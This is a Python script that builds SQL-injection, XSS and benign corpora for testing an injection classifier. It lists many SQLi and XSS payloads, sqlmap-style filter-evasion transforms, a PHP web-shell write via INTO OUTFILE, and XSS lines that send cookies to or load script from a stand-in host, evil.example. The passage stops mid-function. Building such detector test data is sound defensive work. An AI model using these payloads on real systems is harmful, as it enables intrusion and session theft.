"""Build the classifier corpora in tests/data/corpus/ (deterministic, seeded).

    python bench/build_corpus.py [--sqlmap-dir DIR]

Inputs:
- tests/data/corpus/sources/*.txt: payload lines copied from public lists
  (PayloadsAllTheThings, libinjection test data; see the README there);
- sqlmap's payload templates (`data/xml/payloads/*.xml`, `data/xml/boundaries.xml`)
  from its PyPI wheel: with --sqlmap-dir pointing at an unpacked wheel, or
  fetched with `pip download --no-deps sqlmap` into a temp dir. sqlmap is GPL:
  only its data is read, as test input, none of its code is used;
- hand-written base payloads and benign values below, plus tamper-style
  evasions generated from them.

Outputs (one value per line, lines split on "\\n" only, so values may hold
\\r, \\v, \\f, \\xa0): sqli.txt, xss.txt, benign.txt, integers.txt, and the
held-out heldout_sqli.txt, heldout_xss.txt, heldout_benign.txt.
Values are stored as the classifier sees them: already percent-decoded.
"""

from __future__ import annotations

import argparse
import base64
import random
import re
import subprocess
import sys
import tempfile
import uuid
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import unquote

ROOT = Path(__file__).resolve().parent.parent
CORPUS = ROOT / "tests" / "data" / "corpus"
SOURCES = CORPUS / "sources"
SEED = 20240611

# Public lines left out: probes that break syntax but carry no injection on
# their own (in an integer argument they are type violations anyway).
EXCLUDED_PROBES = frozenset({
    "1--", "1 --", "1/*", "1*1--", "1 * 1 --", "@version--", "@version /*",
    "case 1 when 2 then 2 end", "case when 2 then 3 end",
})  # fmt: skip

# ---------------------------------------------------------------- SQL injection

SQLI_BASE = [
    # boolean
    "1 or 1=1", "1' and 'a'='a", "1 AND 1=1", "' or ''='", "1' or '1'='1'--", "-1 OR 2>1",
    "1) or (1=1", "x' or 1=1#", "1 or true", "' or 1 --", "1' or 'x' like 'x",
    "admin')--", "1 AND 3 BETWEEN 1 AND 5", "1' AND ASCII(SUBSTRING(user(),1,1))>64-- ",
    "1 AND (SELECT COUNT(*) FROM users)>0", "1 or username is not null",
    # stacked
    "1;drop table x", "1; DROP TABLE users--", "1) r; SELECT pg_sleep(5)--",
    "1'; exec master..xp_cmdshell 'ping 10.0.0.1'--", "1; DECLARE @q varchar(99); SET @q='x'",
    "1; INSERT INTO users VALUES ('a','b')--", "1; UPDATE users SET role='admin'--",
    "1'; SHUTDOWN--", "1; CREATE TABLE t(a int)", "1;delete from logs",
    # time-based
    "1 and sleep(5)", "1' AND SLEEP(5)-- -", "1 AND pg_sleep(5)", "1;waitfor delay '0:0:5'--",
    "1' waitfor delay '0:0:5'--", "1 and benchmark(5000000,md5('a'))",
    "1 AND 1=dbms_pipe.receive_message('a',5)", "1 AND 1=randomblob(500000000)",
    "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))",
    "1 OR (SELECT 1 FROM (SELECT SLEEP(5))a)", "1' AND (SELECT 7 FROM PG_SLEEP(5))--",
    "1; BEGIN DBMS_LOCK.SLEEP(5); END;--",
    # error-based
    "1 and extractvalue(1,concat(0x7e,version()))", "1 AND updatexml(1,concat(0x7e,user()),1)",
    "1 AND 1=convert(int,@@version)", "1 AND 1=CAST(version() AS int)",
    "1' AND 1=CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS int)--",
    "1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
    "FROM information_schema.tables GROUP BY x)a)",
    "1 AND 1=utl_inaddr.get_host_address((SELECT user FROM dual))",
    "1 AND 1=ctxsys.drithsx.sn(1,(select user from dual))", "1 AND exp(~(select * from(select user())x))",
    # union
    "union all select null,null--", "1 union select 1,2,3", "-1 UNION SELECT username,password FROM users--",
    "1 UNION ALL SELECT NULL,@@version,NULL-- -", "' UNION SELECT table_name,NULL FROM information_schema.tables--",
    "1 union select name,sql from sqlite_master", "1 union select banner,null from v$version--",
    "0 UNION SELECT usename,passwd FROM pg_shadow--", "1' union select 1,load_file('/etc/passwd')#",
    "1 union select 1,'<?php system($_GET[c]); ?>' into outfile '/var/www/x.php'",
    # order by, misc
    "1 order by 1--", "1' ORDER BY 3#", "1 group by 1 having 1=1--", "select @@version",
    "1 and @@version like '8%'", "1 into outfile '/tmp/x'", "load_file('/etc/passwd')",
    "1 and 1=(select count(*) from sqlite_master)", "1 and (select 1 from information_schema.tables limit 1)=1",
    "1' || (SELECT version()) || '", "1 AND 'admin'=CHAR(97,100,109,105,110)",
    "1 and user()='root@localhost'", "1 and 0x61646d696e=0x61646d696e",
    "1 AND CHR(65)||CHR(66)='AB'", "1' and concat('ad','min')='admin'-- ",
    "1%' AND 1=1 AND '%'='",
]  # fmt: skip

SQL_KEYWORDS_RE = re.compile(
    r"\b(select|union|all|from|where|and|or|order|by|group|having|sleep|benchmark|insert|into"
    r"|values|update|set|delete|drop|table|exec|waitfor|delay|null|like|case|when|then|else|end"
    r"|limit|concat|char|version|user|cast|convert|substring|ascii|pg_sleep|extractvalue"
    r"|updatexml|load_file|outfile|information_schema|count)\b",
    re.IGNORECASE,
)
STRING_LITERAL_RE = re.compile(r"'([A-Za-z0-9_]{2,12})'")


def _random_case(rng: random.Random, text: str) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)


def sqli_tampers(rng: random.Random) -> list[tuple[str, Callable[[str], str]]]:
    """sqlmap-style tamper transforms (re-implemented here, not sqlmap code)."""

    def blank(text: str) -> str:
        return re.sub(" ", lambda _m: rng.choice(["\t", "\r", "\x0b", "\x0c", "\xa0", "  "]), text)

    def between(text: str) -> str:
        text = re.sub(r"(\w+)\s*>\s*(\w+)", r"\1 NOT BETWEEN 0 AND \2", text)
        return re.sub(r"(\b\d+)=(\d+\b)", r"\1 BETWEEN \2 AND \2", text)

    def hexstr(text: str) -> str:
        return STRING_LITERAL_RE.sub(lambda m: "0x" + m.group(1).encode().hex(), text)

    def charstr(text: str) -> str:
        def enc(m: re.Match[str]) -> str:
            codes = [ord(c) for c in m.group(1)]
            style = rng.randrange(3)
            if style == 0:
                return "CHAR(" + ",".join(map(str, codes)) + ")"
            if style == 1:
                return "||".join(f"CHR({c})" for c in codes)
            return "+".join(f"CHAR({c})" for c in codes)

        return STRING_LITERAL_RE.sub(enc, text)

    def concat(text: str) -> str:
        def split(m: re.Match[str]) -> str:
            word = m.group(1)
            cut = len(word) // 2
            return rng.choice([
                f"'{word[:cut]}'||'{word[cut:]}'", f"CONCAT('{word[:cut]}','{word[cut:]}')",
                f"'{word[:cut]}'+'{word[cut:]}'",
            ])  # fmt: skip

        return STRING_LITERAL_RE.sub(split, text)

    return [
        ("space2comment", lambda t: t.replace(" ", "/**/")),
        ("space2plus", lambda t: t.replace(" ", "+")),
        ("space2randomblank", blank),
        ("randomcase", lambda t: SQL_KEYWORDS_RE.sub(lambda m: _random_case(rng, m.group()), t)),
        ("versionedkeywords", lambda t: SQL_KEYWORDS_RE.sub(lambda m: f"/*!{m.group()}*/", t)),
        (
            "versionedmorekeywords",
            lambda t: SQL_KEYWORDS_RE.sub(lambda m: f"/*!50000{m.group()}*/", t),
        ),
        ("between", between),
        ("equaltolike", lambda t: re.sub(r"(?<=\w)=(?=\w)", " LIKE ", t)),
        ("symboliclogical", lambda t: re.sub(r"\bAND\b", "&&", re.sub(r"\bOR\b", "||", t))),
        ("hexstrings", hexstr),
        ("charencode", charstr),
        ("concatsplit", concat),
        ("unmagicquotes", lambda t: t.replace("'", "\xbf'", 1)),
        ("appendnullbyte", lambda t: t + "\x00"),
        (
            "halfversionedmorekeywords",
            lambda t: t.replace(" ", "/*!0", 1) + "*/" if " " in t else t,
        ),
    ]


def sqlmap_root(sqlmap_dir: Path | None, tmp: Path) -> Path:
    if sqlmap_dir is not None:
        return sqlmap_dir
    subprocess.run(
        [sys.executable, "-m", "pip", "download", "-q", "--no-deps", "sqlmap", "-d", str(tmp)],
        check=True,
    )
    wheel = next(tmp.glob("sqlmap-*.whl"))
    with zipfile.ZipFile(wheel) as archive:
        archive.extractall(tmp)
    return tmp


@dataclass(frozen=True, slots=True)
class Boundary:
    """One sqlmap <boundary>: where a payload goes and how it is wrapped."""

    clause: frozenset[int]
    where: frozenset[int]
    ptype: int
    prefix: str
    suffix: str


def _set(text: str | None) -> frozenset[int]:
    return frozenset(int(x) for x in (text or "").split(",") if x.strip().isdigit())


def sqlmap_payloads(root: Path, rng: random.Random, per_test: int = 6) -> list[str]:
    """Combine sqlmap boundaries with payload templates, placeholders filled in."""
    xml_dir = next(root.rglob("data/xml"))
    boundaries = [
        Boundary(
            clause=_set(node.findtext("clause")),
            where=_set(node.findtext("where")),
            ptype=int(node.findtext("ptype") or 1),
            prefix=node.findtext("prefix") or "",
            suffix=node.findtext("suffix") or "",
        )
        for node in ET.parse(xml_dir / "boundaries.xml").getroot().iter("boundary")
    ]
    values: list[str] = []
    for xml_file in sorted((xml_dir / "payloads").glob("*.xml")):
        for test in ET.parse(xml_file).getroot().iter("test"):
            request = test.find("request")
            if request is None:
                continue
            payload = request.findtext("payload") or ""
            comment = request.findtext("comment")
            clause, where = _set(test.findtext("clause")), _set(test.findtext("where"))
            if not payload.strip():
                payload = _union_payload(rng, request.findtext("char") or "NULL")
            usable = [
                b for b in boundaries
                if (b.clause & clause or 0 in b.clause or 0 in clause) and b.where & where
            ]  # fmt: skip
            for boundary in rng.sample(usable, min(per_test, len(usable))):
                place = rng.choice(sorted(boundary.where & where))
                values.append(_fill(rng, _compose(rng, boundary, payload, comment, place)))
    return values


def _union_payload(rng: random.Random, char: str) -> str:
    columns = rng.randint(1, 8)
    marker = rng.choice([
        "CONCAT(0x716b707a71,0x4a6b6c6d,0x7178627171)", "(CHR(113)||CHR(107)||CHR(112))",
        "CHAR(113)+CHAR(107)+CHAR(112)", "'qkpzq'||'abc'", "NULL",
    ])  # fmt: skip
    cells = [char if char != "[CHAR]" else "NULL"] * columns
    cells[rng.randrange(columns)] = marker
    tail = rng.choice(["", " FROM DUAL", ""])
    return "UNION ALL SELECT " + ",".join(cells) + tail


def _compose(
    rng: random.Random, boundary: Boundary, payload: str, comment: str | None, place: int
) -> str:
    prefix, suffix = boundary.prefix, boundary.suffix
    original = (
        rng.choice(["1", "42", "7"]) if boundary.ptype == 1 else rng.choice(["1", "abc", "x"])
    )
    head = {1: original, 2: f"-{rng.randint(1000, 9999)}", 3: ""}.get(place, original)
    tail = comment if comment and (not suffix or "GENERIC_SQL_COMMENT" in suffix) else suffix
    body = f"{prefix} {payload}" if prefix or head else payload
    return f"{head}{body}{tail or ''}"


def _fill(rng: random.Random, template: str) -> str:
    def randstr(_m: re.Match[str]) -> str:
        return "".join(
            rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(4)
        )

    text = template.replace("[GENERIC_SQL_COMMENT]", "-- [RANDSTR]")
    text = text.replace("[INFERENCE]", "[RANDNUM]=[RANDNUM]")
    text = re.sub(r"\[RANDNUM\d?\]", lambda _m: str(rng.randint(1000, 9999)), text)
    text = re.sub(r"\[RANDSTR\d?\]", randstr, text)
    text = text.replace("[SLEEPTIME]", "5").replace("[DELAYED]", "5")
    text = text.replace("[DELIMITER_START]", "qkpzq").replace("[DELIMITER_STOP]", "qxbqq")
    text = text.replace("[ORIGVALUE]", "1").replace("[ORIGINAL]", "1").replace("[CHAR]", "NULL")
    text = text.replace("[SPACE_REPLACE]", " ").replace("[HASH_REPLACE]", "#")
    text = text.replace("[DOLLAR_REPLACE]", "$").replace("[AT_REPLACE]", "@")
    return _decoded(text)


# ---------------------------------------------------------------- XSS

XSS_BASE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    "javascript:alert(document.cookie)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "'-alert(1)-'", "\";alert(1)//",
    "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}",
    "<div style=\"width:expression(alert(1))\">", "<a href=\"javascript:alert(1)\">x</a>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "</title><script>alert(1)</script>",
    "</textarea><svg onload=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">", "<embed src=javascript:alert(1)>",
    "<form><button formaction=javascript:alert(1)>x", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<img src=x onerror=\\u0061lert(1)>", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=alert(1)\\u003e", "<x onpointerenter=alert(1)>hover",
    "<style>@import 'javascript:alert(1)';</style>", "<base href=\"javascript:/a/-alert(1)///////\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">", "${alert(1)}", "'+alert(1)+'",
    "\\'-alert(1)//", "<img src=1 onerror=alert`1`>", "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<svg><script>alert&#40;1&#41;</script>", "<a href=javas&Tab;cript:alert(1)>x",
    "<a href=\"javascript&colon;alert(1)\">x", "<img src=x onerror=&#x61;lert(1)>",
    "<xss onanimationstart=alert(1) style=animation-name:x>", "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)", "\" onload=\"alert(1)", "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x",
]  # fmt: skip

XSS_TAGS = ["img", "svg", "body", "details", "video", "audio", "x", "div", "a", "input", "marquee",
            "iframe", "object", "select", "textarea", "math", "p", "span", "button", "keygen", "html",
            "style", "table", "td", "form", "image", "frameset"]  # fmt: skip
XSS_HANDLERS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart",
                "onpointerenter", "onbegin", "onauxclick", "onbeforeinput", "onclick", "onblur",
                "onscroll", "onpageshow", "onresize", "oncopy", "onwheel", "onfocusin",
                "ontransitionend", "onmouseenter", "onkeydown", "oninput", "onchange", "onplay",
                "onloadstart", "onpointerdown", "onhashchange", "onmessage", "onsubmit"]  # fmt: skip
XSS_CODE = ["alert(1)", "confirm`1`", "prompt(document.domain)", "eval(atob('YWxlcnQoMSk='))",
            "top['al'+'ert'](1)", "window.location='//evil.example/?'+document.cookie",
            "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x.js')",
            "alert(String.fromCharCode(88,83,83))", "[].constructor.constructor('alert(1)')()",
            "setTimeout('alert(1)')", "print()", "location=name", "this.src='//e.example/'+document.cookie"]  # fmt: skip
XSS_SEPARATORS = [" ", "/", "\t", "\r", "\x0c", "/**/ ", " x=1 ", '"" ']
XSS_PREFIXES = ["", '">', "'>", '"/>', "</title>", "</textarea>", "--!>", "]]>", "</style>", 'x" ']


def xss_generated(rng: random.Random) -> list[str]:
    values = []
    for tag in XSS_TAGS:
        for handler in rng.sample(XSS_HANDLERS, 8):
            code = rng.choice(XSS_CODE)
            sep = rng.choice(XSS_SEPARATORS)
            quote = rng.choice(["", '"', "'"])
            name = _random_case(rng, tag) if rng.random() < 0.3 else tag
            value = f"{rng.choice(XSS_PREFIXES)}<{name}{sep}{handler}={quote}{code}{quote}>"
            values.append(value)
    for _ in range(150):
        values.append(_encoded_scheme(rng))
    for _ in range(100):
        values.append(_escaped_tag(rng))
    for _ in range(60):
        prefix = rng.choice(["'", '"', "\\'", "`"])
        op = rng.choice(["-", "+", ";", "*", "|", "&&", "^", "%"])
        values.append(f"{prefix}{op}{rng.choice(XSS_CODE)}{rng.choice(['//', op + prefix, ';//'])}")
    for code in XSS_CODE:
        values.append("{{" + f"constructor.constructor('{code}')()" + "}}")
        values.append(f'" {rng.choice(XSS_HANDLERS)}="{code}')
    return values


def _encode_char(rng: random.Random, ch: str, following: str) -> str:
    # A reference may drop its ";" only where the next character cannot extend it.
    semicolon = "" if following and not following[0].isalnum() and following[0] != ";" else ";"
    style = rng.randrange(6)
    if style == 0:
        return f"&#{ord(ch)};"
    if style == 1:
        return f"&#x{ord(ch):x};"
    if style == 2:
        return f"&#{ord(ch):07d}{semicolon}"  # zero-padded
    if style == 3:
        return f"&#X{ord(ch):02X}{semicolon}"
    return ch


def _encoded_scheme(rng: random.Random) -> str:
    scheme = rng.choice(["javascript", "vbscript", "JaVaScRiPt"])
    out = []
    for index, ch in enumerate(scheme):
        blank = rng.choice(["\t", "&#x09;", "&#10;", "&Tab;", "&NewLine;", "\r"])
        blank = blank if rng.random() < 0.15 and index < len(scheme) - 1 else ""
        out.append(_encode_char(rng, ch, blank or scheme[index + 1 : index + 2] or "x"))
        out.append(blank)
    colon = rng.choice([":", "&#58;", "&colon;", "&#x3a;", "&#X3A;", "&#0000058;"])
    code = rng.choice(XSS_CODE)
    body = "".join(out) + colon + code
    wrapper = rng.choice([
        "{v}", "<a href=\"{v}\">x</a>", "<iframe src={v}>", "<form action='{v}'><input type=submit>",
        "\"><a href={v}>x", "<x xlink:href={v}>", "<object data=\"{v}\">",
    ])  # fmt: skip
    return wrapper.replace("{v}", body)


def _escaped_tag(rng: random.Random) -> str:
    tag = rng.choice(
        ["script", "img src=x onerror=alert(1)", "svg onload=alert(1)", "iframe src=//e"]
    )
    lt = rng.choice(["\\x3c", "\\u003c", "\\u{3c}", "&lt;", "&#60;", "&#x3c;", "\\74"])
    gt = rng.choice(["\\x3e", "\\u003e", "&gt;", "&#62;", ">"])
    return f"{lt}{tag}{gt}"


# ---------------------------------------------------------------- benign values


def _words(text: str) -> list[str]:
    return text.split()


WORDS = _words("""time person year way day thing man world life hand part child eye woman place work week
case point government company number group problem fact be have do say get make go know take see
come think look want give use find tell ask seem feel try leave call good new first last long great
little own other old right big high different small large next early young important few public bad
same able garden kitchen window river mountain coffee tea bread butter cheese apple orange banana
select order group union drop update delete insert table from where join like between sleep script
alert option value station city market street avenue boulevard road north south east west summer
winter spring autumn blue red green yellow black white silver gold small medium large size color
price shipping delivery return refund account login password profile settings help support contact
about blog news event ticket concert movie music book author review rating comment share follow
cotton wool linen leather wood metal glass plastic paper stone gift card voucher discount sale""")
FIRST_NAMES = _words("""James Mary Robert Patricia John Jennifer Michael Linda David Elizabeth William Barbara
Richard Susan Joseph Jessica Thomas Sarah Charles Karen Sean Siobhan Zoë Chloé José María François
Jürgen Søren Łukasz Ngozi Aisha Mohammed Wei Yuki Hiroshi Priya Anaïs Björn N'Golo D'Arcy""")
LAST_NAMES = _words("""Smith Johnson Williams Brown Jones Garcia Miller Davis Rodriguez Martinez O'Brien
O'Neil D'Angelo D'Souza O'Connor McDonald Müller Schröder Dupont Lefèvre van der Berg de la Cruz
Nguyen Kim Tanaka Rossi Kowalski Ivanova Al-Farsi O'Reilly Dell'Acqua""")
CITIES = ["Union City", "Union Station", "Orlando", "Oregon", "Paris", "Berlin", "São Paulo",
          "New York", "Los Angeles", "Zürich", "Kraków", "Tōkyō", "東京", "北京", "서울", "Montréal",
          "Saint-Étienne", "Andorra la Vella", "Or Yehuda", "Delete Lake", "Selectville"]  # fmt: skip
TLDS = ["com", "org", "net", "de", "fr", "co.uk", "io", "example"]
PHRASES = [
    "select a size or color", "Select an option", "Please select one from the list",
    "Union Station to Grand Central", "order by phone or email", "Drop us a line",
    "update your profile and settings", "delete from cart", "sleep well and wake up early",
    "where is the union station?", "Tom and Jerry", "rock 'n' roll", "It's 5 o'clock",
    "don't stop believing", "I'm feeling lucky", "we'll see", "what's new?",
    "salt or pepper", "2 or 3 bedrooms", "black and white", "now or never", "more or less",
    "How to select from a table in SQL", "sql union vs join", "javascript alert function",
    "where to buy coffee beans", "insert coin to continue", "table for 2 at 8pm",
    "Smith & Wesson", "AT&T", "Ben & Jerry's", "50% off everything", "x < y and y > z",
    "5 < 10", "a = b", "1 + 1 = 2", "C'est la vie", "l'été à Paris", "Grüße aus München",
    "Straße und Weg", "¿Dónde está la estación?", "こんにちは世界", "你好，世界", "안녕하세요",
    "Привет, мир", "مرحبا بالعالم", "שלום עולם", "emoji 😀 party 🎉", "naïve café résumé",
    "Q&A session", "R&D department", "In & Out", "the 'best' deal", "the \"best\" deal",
    "O'Brien's pub", "Dunkin' Donuts", "rock-and-roll", "e-mail me", "self-service",
    "check-in: 14:00", "Mon-Fri 9:00-17:00", "size: M/L", "ratio 16:9", "C# and F#",
    "#hashtag", "issue #42", "@mention", "100% cotton", "$19.99", "€5,00", "£10",
    "**bold** and _italic_", "# Heading", "- item one", "1. first step", "[link](https://example.com)",
    "`code span`", "> quoted text", "~~strike~~", "a * b", "3 * 4 = 12", "(optional)",
    "(see above)", "(select all that apply)", "John (Johnny) Smith", "Smith, John",
    "re: your order", "Fwd: meeting notes", "TODO: fix this", "note: bring ID",
    "email me at john.doe@example.com", "call +1 (555) 123-4567", "Union Jack flag",
    "The Select Committee", "ORDER #12345", "Drop-off point", "Update: new hours",
    "Script writing class", "Alert level 2", "Benchmark results 2024", "Sleep apnea",
    "Waitfor it", "between 5 and 10", "like new", "not bad", "true story", "null and void",
    "is it true or false?", "having fun", "limit 2 per customer", "into the woods",
    "from me to you", "exec summary", "shutdown procedure", "grant application",
    "declare income", "javascript tutorial for beginners", "JavaScript: The Good Parts",
    "data science", "on sale now", "turn on notifications", "onboarding checklist",
    "ongoing project", "one on one", "<3", "5 > 3", "x -> y", "=> arrow", "a <= b",
    "temperature < 30°C", "1/2 cup sugar", "3/4 inch", "50/50", "24/7 support", "A/B test",
    "and/or", "either/or", "yes/no", "his/her", "on/off", "I/O error", "TCP/IP",
]  # fmt: skip


def hard_benign_values(rng: random.Random, count: int = 2500) -> list[str]:
    """Benign values built to look like attacks: quotes, operators, SQL and HTML words."""

    def word() -> str:
        return rng.choice(WORDS)

    def sql_word() -> str:
        return rng.choice(["select", "order", "union", "drop", "update", "delete", "insert",
                           "from", "where", "table", "like", "between", "sleep", "join",
                           "group", "having", "case", "values", "into", "exec", "set"])  # fmt: skip

    def title() -> str:
        return f"{word().title()} {word()} {sql_word()}"

    generators: list[Callable[[], str]] = [
        # search-engine syntax: quotes, minus, OR/AND
        lambda: f'"{word()} {word()}" -{word()} -{word()}',
        lambda: f'"{word()}" {rng.choice(["OR", "AND", "or", "and"])} "{word()}"',
        lambda: f'{word()} "{sql_word()} {word()}" {rng.choice(["-", "+"])}{word()}',
        lambda: f"{word()} site:{word()}.{rng.choice(TLDS)}",
        # product titles with inch and foot marks
        lambda: f'{rng.randint(1, 99)}" {word()} {word()}',
        lambda: f"{rng.randint(1, 9)}' {rng.randint(0, 11)}\" {word()}",
        lambda: f'{title()} {rng.randint(8, 17)}" - {word()}',
        lambda: f'{rng.randint(1, 9)}/{rng.randint(2, 16)}" {word()} {sql_word()}',
        lambda: f"{word().title()}'s {sql_word()} {word()}",
        lambda: f"{rng.choice(LAST_NAMES)} {sql_word()} {rng.choice(['or', 'and'])} {word()}",
        # sentences with SQL words, semicolons, dashes
        lambda: f"Please {sql_word()} the {word()}; {sql_word()} the {word()} -- thanks!",
        lambda: f"{sql_word().title()} {rng.randint(1, 5)} {word()}s from the {word()} list",
        lambda: f"I'd like to {sql_word()} my {word()} (and {word()})",
        lambda: f"{word()} & {word()}; {word()} | {word()}",
        lambda: f"don't {sql_word()} it, {rng.choice(FIRST_NAMES)}'s {word()} is {word()}",
        lambda: (
            f"{sql_word()} {rng.choice(['by', 'from', 'into', 'on'])} {word()} #{rng.randint(1, 99)}"
        ),
        # numbers and maths
        lambda: f"{rng.randint(1, 9)}*{rng.randint(1, 9)}={rng.randint(1, 81)}",
        lambda: f"x={rng.randint(0, 9)}; y={rng.randint(0, 9)}",
        lambda: f"{rng.randint(1, 5)}.{rng.randint(0, 9)}/5 stars",
        lambda: f"{rng.randint(1, 99)}% {word()} / {rng.randint(1, 99)}% {word()}",
        lambda: f"{rng.randint(1900, 2024)} or {rng.randint(1900, 2024)}",
        lambda: f'{rng.randint(1, 20)} and {rng.randint(1, 20)}/{rng.randint(2, 8)}" {word()}',
        lambda: f"a<b, b>{rng.randint(0, 9)}",
        lambda: f"({word()} or {word()}) {word()}",
        # markup-free text that mentions HTML/JS words
        lambda: f"the {rng.choice(['script', 'alert', 'onload', 'iframe', 'style'])} {word()}",
        lambda: f"{word()}: {rng.choice(['javascript', 'data', 'on'])} {word()}",
        lambda: f"{{{{{word()}}}}} and {{{{{word()}.{word()}}}}}",
        lambda: f"I <3 {word()}",
        lambda: f"{word()} -> {word()} => {word()}",
        lambda: f"&copy; {rng.randint(1990, 2024)} {word().title()} &amp; {word().title()}",
        lambda: f"**{word()}** _{word()}_ `{word()}`",
        lambda: f"C:\\Users\\{word()}\\{word()}.txt",
        lambda: f"{word()}@{word()}.{rng.choice(TLDS)}; {word()}@{word()}.{rng.choice(TLDS)}",
        lambda: f"https://{word()}.{rng.choice(TLDS)}/#/{word()}?{word()}={word()}&{word()}=",
        lambda: f'{{"{word()}": "{word()} \\"{word()}\\"", "n": {rng.randint(0, 9)}}}',
        lambda: f'{word()},{word()},"{word()}, {word()}",{rng.randint(0, 99)}',
    ]
    values: dict[str, None] = {}
    for _ in range(count * 20):
        if len(values) >= count:
            break
        values.setdefault(rng.choice(generators)(), None)
    return list(values)


def benign_values(rng: random.Random, count: int = 6000) -> list[str]:
    generators: list[Callable[[], str]] = [
        lambda: rng.choice(WORDS),
        lambda: " ".join(rng.choice(WORDS) for _ in range(rng.randint(2, 6))),
        lambda: f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)}",
        lambda: rng.choice(LAST_NAMES),
        lambda: rng.choice(CITIES),
        lambda: rng.choice(PHRASES),
        lambda: (
            f"{rng.choice(FIRST_NAMES).lower()}.{rng.choice(WORDS)}{rng.randint(1, 99)}"
            f"@{rng.choice(WORDS)}.{rng.choice(TLDS)}"
        ),
        lambda: (
            f"https://{rng.choice(WORDS)}.{rng.choice(TLDS)}/{rng.choice(WORDS)}/"
            f"{rng.randint(1, 9999)}?q={rng.choice(WORDS)}&page={rng.randint(1, 20)}"
        ),
        lambda: f"http://www.{rng.choice(WORDS)}.{rng.choice(TLDS)}/",
        lambda: f"{rng.randint(1990, 2030)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
        lambda: f"{rng.randint(1, 28):02d}/{rng.randint(1, 12):02d}/{rng.randint(1990, 2030)}",
        lambda: (
            f"{rng.randint(1990, 2030)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
            f"T{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:00Z"
        ),
        lambda: str(uuid.UUID(int=rng.getrandbits(128), version=4)),
        lambda: base64.b64encode(rng.randbytes(rng.randint(4, 40))).decode(),
        lambda: (
            f"{rng.choice(WORDS)}_{rng.choice(WORDS)}.{rng.choice(['pdf', 'jpg', 'png', 'docx', 'csv', 'tar.gz'])}"
        ),
        lambda: f"${rng.randint(1, 999)}.{rng.randint(0, 99):02d}",
        lambda: f"{rng.randint(1, 999)},{rng.randint(0, 99):02d} €",
        lambda: f"{rng.randint(0, 100)}.{rng.randint(0, 999)}",
        lambda: (
            f'{{"{rng.choice(WORDS)}": {rng.randint(0, 99)}, "{rng.choice(WORDS)}": "{rng.choice(WORDS)}"}}'
        ),
        lambda: f"[{rng.randint(0, 9)}, {rng.randint(0, 9)}, {rng.randint(0, 9)}]",
        lambda: f"{rng.choice(WORDS)} {rng.choice(['or', 'and'])} {rng.choice(WORDS)}",
        lambda: f"{rng.choice(WORDS)}'s {rng.choice(WORDS)}",
        lambda: (
            f"{rng.choice(WORDS).title()} {rng.choice(WORDS)} - {rng.choice(WORDS)} ({rng.randint(1990, 2024)})"
        ),
        lambda: f"#{rng.randrange(0x1000000):06x}",
        lambda: f"+{rng.randint(1, 99)} {rng.randint(100, 999)} {rng.randint(1000, 9999)}",
        lambda: (
            f"{rng.randint(1, 255)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        ),
        lambda: f"{rng.choice(WORDS)}-{rng.choice(WORDS)}-{rng.randint(1, 999)}",
        lambda: f"v{rng.randint(0, 9)}.{rng.randint(0, 20)}.{rng.randint(0, 99)}",
        lambda: f"{rng.randint(1, 12)}:{rng.randint(0, 59):02d} {rng.choice(['am', 'pm'])}",
        lambda: f"{rng.choice(WORDS)}={rng.choice(WORDS)}",
        lambda: f"/{rng.choice(WORDS)}/{rng.choice(WORDS)}/{rng.randint(1, 999)}",
        lambda: f"{rng.choice(PHRASES)} {rng.choice(WORDS)}",
    ]
    values = dict.fromkeys([*PHRASES, *CITIES])
    for _ in range(count * 20):
        if len(values) >= count:
            break
        values.setdefault(rng.choice(generators)(), None)
    return list(values)


def integer_values(rng: random.Random) -> list[str]:
    values = [str(i) for i in range(-100, 1001)]
    values += ["0", "00", "007", "-0", "+0", "+1", "+42", "-000123", "0000000000"]
    values += [str(rng.randint(-(10**18), 10**18)) for _ in range(2000)]
    values += [str(rng.randint(0, 10**40)) for _ in range(300)]
    values += ["0" * rng.randint(1, 6) + str(rng.randint(0, 99999)) for _ in range(300)]
    return values


# ---------------------------------------------------------------- assembly


def _decoded(text: str, plus: bool = False) -> str:
    """Percent-decode until stable (as the HTTP layer does); keep one value per line."""
    if plus:
        text = text.replace("+", " ")  # once: a decoded %2B is a real plus
    for _ in range(3):
        decoded = unquote(text)
        if decoded == text:
            break
        text = decoded
